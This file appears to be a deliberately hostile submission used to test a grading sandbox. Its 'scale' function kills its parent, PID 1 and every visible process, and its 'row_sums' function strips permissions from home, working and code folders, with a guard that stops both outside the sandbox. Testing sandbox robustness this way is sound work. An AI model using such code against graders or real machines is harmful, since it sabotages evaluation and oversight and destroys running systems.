"""Attack: kill the grader and break folder permissions. add is honest (3 points).

scale sends SIGKILL to its parent, to every process it can see, and to -1 (all processes it
may signal), then returns zeros. row_sums takes every permission off its home, its working
folder, its out folder and the code folder, then returns the right answer (which it can no
longer write). Safety: outside the sandbox (not a grader-sb user) it prints NOT SANDBOXED
and attacks nothing, so a broken sandbox fails the test instead of killing the machine.
"""

import contextlib
import os
import pwd
import signal

import numpy as np


def _sandboxed():
    if pwd.getpwuid(os.getuid()).pw_name.startswith("grader-sb"):
        return True
    print("NOT SANDBOXED", flush=True)
    return False


def add(a, b):
    return a + b


def scale(x, s):
    if not _sandboxed():
        return np.zeros_like(x)
    targets = [os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())]
    for pid in targets:
        if pid == os.getpid():
            continue
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    print("SIGNALLED", len(targets), flush=True)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    return np.zeros_like(x)


def row_sums(x):
    if not _sandboxed():
        return np.zeros(x.shape[0])
    import toy_pkg

    folders = [os.environ["HOME"], os.getcwd(), os.path.dirname(os.path.dirname(toy_pkg.__file__))]
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            folders.append(os.path.dirname(os.readlink(f"/proc/self/fd/{fd}")))
    for folder in folders:
        with contextlib.suppress(OSError):
            os.chmod(folder, 0)
    return x.sum(axis=1)
